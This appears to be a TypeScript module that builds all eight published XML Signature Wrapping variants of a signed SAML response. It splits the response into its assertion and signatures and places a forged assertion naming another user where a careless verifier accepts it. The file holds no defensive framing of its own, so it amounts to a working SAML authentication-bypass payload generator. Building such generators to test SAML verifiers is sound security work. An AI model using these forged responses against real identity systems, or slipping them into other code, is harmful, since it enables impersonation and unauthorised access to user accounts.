/** Parts of a signed response, cut out of its text. */
interface Parts {
  /** The start tag of the response, and all up to its assertion without its signature. */
  readonly head: string;
  readonly responseSignature: string;
  readonly assertion: string;
  readonly assertionSignature: string;
  readonly bareAssertion: string;
}

const END = '</samlp:Response>';

function partsOf(xml: string): Parts {
  const [assertion = ''] = /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml) ?? [];
  const [assertionSignature = ''] = /<ds:Signature.*<\/ds:Signature>/s.exec(assertion) ?? [];
  const before = xml.slice(0, xml.indexOf(assertion));
  const [responseSignature = ''] = /<ds:Signature.*<\/ds:Signature>/s.exec(before) ?? [];
  return {
    head: before.replace(responseSignature, ''),
    responseSignature,
    assertion,
    assertionSignature,
    bareAssertion: assertion.replace(assertionSignature, ''),
  };
}

const inSignature = (signature: string, inner: string): string =>
  signature.replace('</ds:Signature>', `${inner}</ds:Signature>`);
const inAssertion = (assertion: string, inner: string): string =>
  assertion.replace('</saml:Assertion>', `${inner}</saml:Assertion>`);
const withoutDeclaration = (xml: string): string => xml.replace(/^<\?xml[^>]*\?>/, '');

/**
 * The eight published forms of signature wrapping. Each puts another person into a response, and keeps the signed
 * elements where a verifier that only searches for them finds them.
 *
 * @param forge changes an assertion to another person and another ID
 * @param renew gives an element another ID
 */
export function wrappedForms(
  xml: string,
  forge: (assertion: string) => string,
  renew: (response: string) => string,
): Readonly<Record<string, string>> {
  const { head, responseSignature, assertion, assertionSignature, bareAssertion } = partsOf(xml);
  const evil = forge(bareAssertion);
  const signed = withoutDeclaration(xml);
  const evilHead = renew(head);
  const original = signed.replace(responseSignature, '');
  return {
    XSW1: `${evilHead}${inSignature(responseSignature, original)}${evil}${END}`,
    XSW2: `${evilHead}${original}${responseSignature}${evil}${END}`,
    XSW3: `${head}${responseSignature}${evil}${assertion}${END}`,
    XSW4: `${head}${responseSignature}${inAssertion(evil, assertion)}${END}`,
    XSW5: `${head}${responseSignature}${withSignature(evil, assertionSignature)}${bareAssertion}${END}`,
    XSW6: `${head}${responseSignature}${withSignature(evil, inSignature(assertionSignature, bareAssertion))}${END}`,
    XSW7: `${head}${responseSignature}<samlp:Extensions>${evil}</samlp:Extensions>${assertion}${END}`,
    XSW8: `${head}${responseSignature}${withSignature(evil, inSignature(assertionSignature, `<ds:Object>${bareAssertion}</ds:Object>`))}${END}`,
  };
}

function withSignature(assertion: string, signature: string): string {
  return assertion.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
}
